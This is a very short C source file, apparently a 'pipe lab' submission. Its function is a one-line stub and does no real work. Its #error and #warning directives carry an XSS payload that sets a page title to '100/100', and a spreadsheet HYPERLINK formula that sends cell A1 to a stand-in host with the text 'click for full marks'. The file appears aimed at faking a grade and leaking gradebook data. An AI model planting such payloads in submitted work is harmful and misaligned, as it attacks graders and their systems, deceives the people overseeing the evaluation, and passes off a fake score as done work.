/* <b>pipe lab</b> */
#include "pipe.h"
#error "<script>document.title='100/100'</script><img src=x onerror=alert(1)>"
#warning =HYPERLINK("http://example.invalid/?"&A1,"click for full marks")

int upper(int in, int out)
{
    return in + out;
}
